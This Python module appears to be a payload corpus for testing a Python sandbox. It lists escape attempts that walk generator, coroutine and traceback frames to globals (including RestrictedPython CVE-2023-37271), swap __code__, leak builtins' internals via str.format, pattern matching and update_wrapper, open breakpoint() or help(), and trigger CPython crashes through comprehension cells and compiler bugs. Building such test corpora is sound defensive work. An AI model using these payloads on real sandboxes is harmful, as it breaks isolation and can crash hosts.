"""Frames, code objects and cells: through generators, tracebacks, functions and exceptions."""

from .payloads import Payload, table

#: A name that is read twice, of a type in between: the variable is not the module's, which nobody
#: else binds, but that of a generator which the collector closes between the two.
_BETWEEN = """
class B: {name} = 0
def gen(): yield 1
G = gen()
next(G)
K = []
def main():
 x = B()
 {around}
 try: yield {function}
 finally: x = G
def start():
    g = main()
    f = next(g)
    c = [g]
    c.append(c)
    return f
try: start()()
except AttributeError: pass
for k in K: probe(k[-1])
"""
_READS = "; ".join(["K.append([" + "[], " * 90 + "x.{name}])"] * 40)
#: What is around the read, and what leads to the function that it is in.
_AROUND = {
    "class-global": ("class A:\n  global x\n  def f(): {reads}", "A.f"),
    "class-in-class": ("class A:\n  global x\n  class C:\n   def f(): {reads}", "A.C.f"),
    "class-global-lambda": ("class A:\n  global x\n  f = lambda: [{reads}]", "A.f"),
    "class-nonlocal": ("class A:\n  nonlocal x\n  x = x\n def f(): {reads}", "f"),
    "class-binds": ("class A:\n  x = 1\n  def f(): {reads}", "A.f"),
    "closure": ("def f(): {reads}", "f"),
}


def _between() -> list[Payload]:
    found = []
    for number, (name, (around, function)) in enumerate(_AROUND.items()):
        attribute = ("gi_frame", "gi_code")[number % 2]
        reads = _READS.replace("{name}", attribute)
        text = around.format(reads=reads.replace(";", ",") if "lambda" in around else reads)
        source = _BETWEEN.format(name=attribute, around=text, function=function)
        found.append(Payload(f"between-reads-{name}", "a collection between two reads", source))
    return found


PAYLOADS = _between() + table(
    """
=== gi-frame | RestrictedPython CVE-2023-37271
def g(): yield
probe(g().gi_frame)
=== gi-frame-back | RestrictedPython CVE-2023-37271, up the stack
def g():
    yield it.gi_frame.f_back
it = g()
probe(next(it).f_back.f_globals)
=== gi-frame-of-genexp | the same without a function
probe((x for x in [1]).gi_frame.f_globals)
=== gi-code | code objects can be replaced
probe((x for x in [1]).gi_code)
probe((x for x in [1]).gi_yieldfrom)
=== gi-by-getattr | dynamic
g = (x for x in [1])
for name in ("gi_frame", "gi_code", "gi_yieldfrom", "gi_suspended", "gi_running"):
    probe(getattr(g, name, None))
=== gi-by-format | str.format reads attributes
print("{0.gi_frame.f_back.f_globals}".format(x for x in [1]))
=== gi-by-match | patterns read attributes
match (x for x in [1]):
    case object(gi_frame=f):
        probe(f)
=== coroutine-frame | cr_frame, ag_frame
async def c(): pass
probe(c().cr_frame)
=== exit-traceback | `__exit__` is handed a traceback
class C:
    def __enter__(self): return self
    def __exit__(self, t, e, tb):
        probe(getattr(tb, "tb_frame", None))
        return True
with C():
    1 / 0
=== exit-traceback-attribute | the same, spelled out
class C:
    def __enter__(self): return self
    def __exit__(self, t, e, tb):
        probe(tb.tb_frame.f_back.f_globals)
        return True
with C():
    1 / 0
=== exit-by-format | __exit__ that is a bound str.format
class C:
    def __enter__(self): return self
    __exit__ = "{2.tb_frame.f_back.f_globals}{0.__traceback__}".format
with C():
    1 / 0
=== exit-collects | __exit__ that is a C function: no step of the guest comes between
kept = []
class C:
    def __enter__(self): return self
class D(C):
    __exit__ = slice
with D():
    1 / 0
probe(kept)
=== exit-match | a class pattern reads the traceback
class C:
    def __enter__(self): return self
    def __exit__(self, t, e, tb):
        match tb:
            case object(tb_frame=f, tb_next=n):
                probe(f)
        return True
with C():
    1 / 0
=== exit-dict | no __dict__, dir or vars of a traceback
class C:
    def __enter__(self): return self
    def __exit__(self, t, e, tb):
        for f in (vars, dir, type):
            try:
                x = f(tb)
                probe([getattr(tb, n) for n in x] if f is dir else x)
            except (TypeError, AttributeError):
                pass
        return True
with C():
    1 / 0
=== exception-traceback | e.__traceback__
try:
    1 / 0
except ZeroDivisionError as e:
    probe(e.__traceback__.tb_frame.f_globals)
=== exception-with-traceback | with_traceback returns the exception with the one given
try:
    1 / 0
except ZeroDivisionError as e:
    probe(e.with_traceback(None).__traceback__)
=== generator-throw-traceback | throw() takes a traceback
class C:
    def __enter__(self): return self
    def __exit__(self, t, e, tb):
        def g():
            try:
                yield
            except BaseException as e2:
                probe(getattr(e2, "__traceback__", None))
        it = g()
        next(it)
        try:
            it.throw(t, e, tb)
        except StopIteration:
            pass
        return True
with C():
    1 / 0
=== attributeerror-obj | bpo-46730: AttributeError.obj holds the object looked at
try:
    print.nothing
except AttributeError as e:
    probe(e.obj)
try:
    [].nothing
except AttributeError as e:
    probe(getattr(e, "obj", None))
=== attributeerror-of-a-shim | what the runtime was looking at when it failed
for call in (lambda: "{0.x}".format(()), lambda: getattr(print, "x"), lambda: [].x,
             lambda: sorted([object(), object()]), lambda: super(int, 1).x, lambda: "".join(3)):
    try:
        call()
    except Exception as e:
        for name in ("obj", "name", "args", "value", "__context__", "__cause__"):
            probe(getattr(e, name, None))
=== stopiteration-value | what a runtime generator returns
import itertools
for it in (itertools.count(), itertools.product([1]), map(abs, []), iter(range(10**9))):
    for _ in range(3):
        try:
            next(it)
        except StopIteration as e:
            probe([e.value, e.args])
=== context-of-a-runtime-error | __context__ of an error that was raised in a shim
import json, re
for call in (lambda: json.loads("{"), lambda: re.compile("("), lambda: "{".format(),
             lambda: "".encode("rot13"), lambda: int("x"), lambda: json.dumps(print)):
    try:
        call()
    except Exception as e:
        while e is not None:
            probe([e, e.args])
            e = e.__context__
=== function-internals | __code__, __closure__, __defaults__, __globals__
def outer(x):
    def f(y=x): return x
    return f
f = outer(1)
for n in ("__code__", "__closure__", "__globals__", "__defaults__", "__kwdefaults__",
          "__builtins__", "func_globals", "func_code", "__reduce__", "__reduce_ex__",
          "__getattribute__"):
    probe(getattr(f, n, None))
=== code-replace | f.__code__ = f.__code__.replace(...)
def f(): pass
f.__code__ = (lambda: lookup).__code__
=== code-replace-by-setattr | the same with setattr
def f(): pass
setattr(f, "__code__", (lambda: 1))
=== defaults-of-a-shim | a runtime function's defaults are shared
for f in (sorted, print, getattr, isinstance, sum, lookup, probe):
    for n in ("__defaults__", "__kwdefaults__", "__globals__", "__closure__", "__wrapped__",
              "__dict__"):
        x = getattr(f, n, None)
        if n != "__dict__":
            probe(x)
        if x:
            win(x)
=== method-self | the __self__ of builtin methods is a module or a class
for f in (len, abs, print, [].append, dict.fromkeys, "".join, [].extend, int.from_bytes):
    probe(getattr(f, "__self__", None))
    probe(getattr(f, "__func__", None))
=== property-functions | the function behind a property of the library
import string
for p in (string.Template.template, property(lambda s: 0)):
    for n in ("fget", "fset", "fdel", "func", "__get__", "__objclass__"):
        x = getattr(p, n, None)
        if n == "fget":
            win(x) if x else None
        probe(x)
=== partial-func | partial shows its function
from functools import partial, lru_cache, cached_property
probe(partial(print).func)
probe(lru_cache(len).__wrapped__)
=== locals-globals | the namespaces themselves
probe(globals())
=== vars-of-nothing | vars() and dir() read the caller's frame
for f in (vars, dir):
    try:
        probe(f())
    except TypeError:
        pass
=== vars-of-things | vars of a module, a class, a function
import math
for x in (math, list, print, lookup, type, Exception):
    try:
        vars(x)["poison"] = 1
    except TypeError:
        pass
=== wraps-copies-globals | functools.update_wrapper copies any attribute by name
import functools
def f(): pass
class W:
    def __setattr__(self, name, value): probe(value)
functools.update_wrapper(W(), f, assigned=("__globals__", "__code__"), updated=())
=== wraps-updates-any-dict | updated=("__globals__",)
import functools
def f(): pass
functools.update_wrapper(f, f, assigned=(), updated=("__globals__",))
=== breakpoint | builtins that open the interpreter
breakpoint()
=== help-pager | help() opens a pager, license() reads files
help(); license(); copyright(); credits(); exit(); quit()
=== cell-of-comprehension | CPython puts the cell of a captured target into that of a free variable
def cell(b):
    def f():
        [lambda: b for b in []]
        return b
    return f()
probe(cell([0]))
=== cell-of-comprehension-in-class | the same in the body of a class
def main(b):
    class C:
        [(b for _ in [1]) for b in []]
        x = b
    probe(C.x)
main(1)
=== cell-null | the same with an item: a store through NULL
def main(b):
    class C:
        [lambda: b for b in [1]]
        b
main(1)
=== cell-chain | cells in cells, which C frees one inside the other
def main(b):
    def f():
        for i in range(1500000):
            [lambda: b for b in []]
        return (b, 0)[1]
    return f()
main(1)
=== cell-compare | cells are compared by C, unpaid
def cell(b):
    return (lambda: ({0: (lambda: b) for b in []}, b))()[1]
def nest(n):
    x = []
    for i in range(n): x = [x, x]
    return x
cell(nest(32)) == cell(nest(32))
=== cell-by-text | the same in text that is compiled at run time
def f(text):
    try:
        exec(text, {"probe": probe})
    except SyntaxError:
        pass
f("(lambda b: (lambda: ([lambda: b for b in []], probe(b)))())(1)")
f("def f(b):\\n class C:\\n  [lambda: b for b in [1]]\\n  b\\nf(1)")
=== own-name-of-compiler | CPython's compiler dies of its own name as a type parameter
def f(text):
    try:
        compile(text, "", "exec")
    except SyntaxError:
        pass
f("class A:\\n class B[__classdict__]: pass")
f("class A:\\n class B[__\uff43lassdict__]: pass")
f("class A:\\n def f[__classdict__](): pass")
"""
)
